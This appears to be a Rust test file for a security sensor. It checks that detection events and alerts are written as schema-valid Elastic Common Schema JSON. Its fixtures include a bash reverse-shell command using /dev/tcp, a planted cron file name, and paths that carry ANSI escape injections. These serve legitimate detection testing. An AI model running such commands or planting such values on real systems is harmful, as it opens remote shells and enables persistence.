//! What is written is JSON, holds every field that rules can name, and uses no name, type or value that the Elastic Common Schema has not.

use super::*;
use crate::{
    events::{Field, Value as FieldValue},
    sink::sample,
};
use serde_json::Value;
use std::collections::HashMap;

fn lines() -> Vec<(Item, Value)> {
    let writer = Writer::new(&sample::origin());
    sample::items()
        .into_iter()
        .map(|item| {
            let mut out = Vec::new();
            writer.write(&item, &mut out);
            assert_eq!(out.iter().filter(|b| **b == b'\n').count(), 1, "one line each");
            assert!(out.iter().all(|b| (*b >= 0x20 && *b != 0x7f) || *b == b'\n'), "no control characters");
            let value = serde_json::from_slice(&out).unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out)));
            (item, value)
        })
        .collect()
}

/// Type of each field, and whether it is an array; event types that go with each allowed value of a field.
type Schema = (HashMap<&'static str, (&'static str, bool)>, HashMap<(&'static str, &'static str), Vec<&'static str>>);

/// `name|type|array` lines of the schema, and `=field value types...` lines for the fields that have allowed values.
fn schema() -> Schema {
    let (mut fields, mut allowed) = (HashMap::new(), HashMap::new());
    for line in include_str!("../../../testdata/ecs.txt").lines().filter(|l| !l.starts_with('#') && !l.is_empty()) {
        if let Some(value) = line.strip_prefix('=') {
            let mut words = value.split(' ');
            allowed.insert((words.next().unwrap(), words.next().unwrap()), words.collect());
        } else {
            let mut parts = line.split('|');
            fields.insert(parts.next().unwrap(), (parts.next().unwrap(), parts.next() == Some("array")));
        }
    }
    (fields, allowed)
}

fn leaves(prefix: &str, value: &Value, each: &mut dyn FnMut(&str, &Value)) {
    match value {
        Value::Object(map) => {
            assert!(!map.is_empty(), "{prefix}: an empty object");
            for (key, value) in map {
                leaves(&if prefix.is_empty() { key.clone() } else { format!("{prefix}.{key}") }, value, each);
            }
        }
        leaf => each(prefix, leaf),
    }
}

#[test]
fn every_name_type_and_value_is_the_schemas() {
    let (fields, allowed) = schema();
    for (item, line) in lines() {
        leaves("", &line, &mut |name, value| {
            if name.starts_with("sensor.") {
                return;
            }
            let (kind, array) = fields.get(name).unwrap_or_else(|| panic!("{name} is not in the schema ({item:?})"));
            let values = match value {
                Value::Array(values) if *array => values.clone(),
                Value::Array(_) => panic!("{name} is an array and must not be one"),
                value => {
                    assert!(!array, "{name} must be an array");
                    vec![value.clone()]
                }
            };
            for value in values {
                let right = match *kind {
                    "keyword" | "wildcard" | "match_only_text" => value.is_string(),
                    "long" => value.is_i64() || value.is_u64(),
                    "float" => value.is_number(),
                    "boolean" => value.is_boolean(),
                    "ip" => value.as_str().is_some_and(|s| s.parse::<std::net::IpAddr>().is_ok()),
                    "date" => value.as_str().is_some_and(|s| s.ends_with('Z') && s.parse::<jiff::Timestamp>().is_ok()),
                    other => panic!("{name}: no check for the type {other}"),
                };
                assert!(right, "{name} is a {kind}, not {value}");
                if ["event.kind", "event.category", "event.type", "event.outcome"].contains(&name) {
                    assert!(allowed.contains_key(&(name, value.as_str().unwrap())), "{name} must not be {value}");
                }
            }
        });
        let strings = |field: &str| -> Vec<String> {
            line["event"][field].as_array().unwrap().iter().map(|v| v.as_str().unwrap().to_owned()).collect()
        };
        let types: Vec<&str> = strings("category").iter().flat_map(|c| allowed[&("event.category", c.as_str())].clone()).collect();
        for t in strings("type") {
            assert!(types.contains(&t.as_str()), "type {t} does not go with {:?}", strings("category"));
        }
    }
}

#[test]
fn every_field_that_rules_read_is_printed_with_the_same_value() {
    for (item, line) in lines() {
        let Some(event) = item.event() else { continue };
        for field in Field::ALL {
            let at = field.name().split('.').fold(&line, |value, key| &value[key]);
            let same = |v: &FieldValue<'_>| match (v, at) {
                (FieldValue::None | FieldValue::Bool(false), Value::Null) => true,
                (FieldValue::Text(t) | FieldValue::Either(t, _), Value::String(s)) => t.lossy() == *s,
                (FieldValue::Str(t), Value::String(s)) => t == s,
                (FieldValue::List(l), Value::Array(a)) => {
                    l.len() == a.len() && l.iter().zip(a).all(|(l, a)| a.as_str() == Some(&l.lossy()))
                }
                (FieldValue::Number(n), Value::Number(a)) => a.as_i64() == Some(*n),
                // ECS has ids and modes as keywords, modes in octal.
                (FieldValue::Number(n), Value::String(s)) => *s == n.to_string() || *s == format!("{n:04o}"),
                (FieldValue::Ip(ip), Value::String(s)) => *s == ip.to_string(),
                (FieldValue::Bool(b), Value::Bool(a)) => a == b,
                _ => false,
            };
            // A file's mode is printed where it is known; rules read that which a chmod sets.
            let extra = matches!((field, event.get(*field)), (Field::FileMode, FieldValue::None));
            assert!(same(&event.get(*field)) || extra, "{} of {:?}: {:?} printed as {at}", field.name(), event.kind(), event.get(*field));
        }
    }
}

#[test]
fn an_event_is_written_in_full() {
    let lines = lines();
    let (_, open) = &lines[7];
    assert_eq!(open["@timestamp"], "2026-11-21T00:12:33.123456789Z");
    assert_eq!(open["event"]["type"], serde_json::json!(["creation"]));
    assert_eq!(open["file"]["path"], "/etc/cron.d/\u{1b}[31mevil\u{fffd}");
    assert_eq!(open["file"]["name"], "\u{1b}[31mevil\u{fffd}");
    assert_eq!(open["sensor"]["lossy"], true);
    assert_eq!(open["sensor"]["sequence"], 8);
    assert_eq!(open["sensor"]["hook"]["tier"], "kprobe");
    assert_eq!(open["process"]["entity_id"], "0b4aa1c2-51c3-4e5c-9f0e-3d1a2b4c5d6e:4242:4242000000");
    assert_eq!(open["process"]["args"], serde_json::json!(["bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"]));
    assert_eq!(open["process"]["start"], "2026-11-21T00:12:32.365456789Z");
    assert_eq!(open["process"]["parent"]["command_line"], "-bash");
    assert_eq!(open["container"]["id"], sample::CONTAINER);
    let (_, loss) = &lines[14];
    assert_eq!(loss["event"]["kind"], "metric");
    assert_eq!(loss["sensor"]["loss"], serde_json::json!({"kind": "open", "reason": "ring_full", "count": 17}));
    let (_, cgroup) = &lines[17];
    assert_eq!(
        cgroup["sensor"]["cgroup"],
        serde_json::json!({"id": 77, "path": "/kubepods/\u{1b}[31mevil", "container": sample::CONTAINER})
    );
    let (_, gap) = &lines[18];
    assert_eq!(gap["sensor"]["loss"], serde_json::json!({"reason": "output_full", "count": 3, "first_sequence": 19, "last_sequence": 21}));
}

#[test]
fn a_finding_says_which_rule_whose_and_why() {
    let (_, alert) = &lines()[15];
    assert_eq!(alert["event"]["kind"], "alert");
    assert_eq!(alert["event"]["category"], serde_json::json!(["intrusion_detection", "network"]));
    assert_eq!(alert["event"]["outcome"], "failure");
    assert_eq!(alert["rule"]["author"], serde_json::json!(["@d4ns4n_ (Wuerth-Phoenix), Florian Roth"]));
    assert_eq!(alert["threat"]["technique"], serde_json::json!({"id": ["T1059", "T1071"], "subtechnique": {"id": ["T1059.004"]}}));
    assert_eq!(alert["threat"]["tactic"], serde_json::json!({"id": ["TA0002", "TA0011"], "name": ["Execution", "Command and Control"]}));
    assert_eq!(alert["sensor"]["score"]["total"], 68.5);
    assert_eq!(alert["sensor"]["score"]["contributions"][0]["title"], "Decode Base64 Encoded Text");
    assert_eq!(alert["sensor"]["ancestors"][1]["command_line"], "sshd: alice [priv]");
    assert_eq!(alert["sensor"]["matched"][0]["field"], "process.command_line");
    assert_eq!(alert["destination"], serde_json::json!({"ip": "127.0.0.1", "port": 4444}));
}

#[test]
fn doubts_are_named() {
    let lines = lines();
    assert_eq!(lines[8].1["sensor"]["racy"], serde_json::json!(["file.path"]));
    assert_eq!(lines[8].1["sensor"]["incomplete"], serde_json::json!(["file.path"]));
    assert_eq!(lines[4].1["sensor"]["racy"], serde_json::json!(["source"]));
    assert!(lines[0].1["sensor"].get("racy").is_none());
}
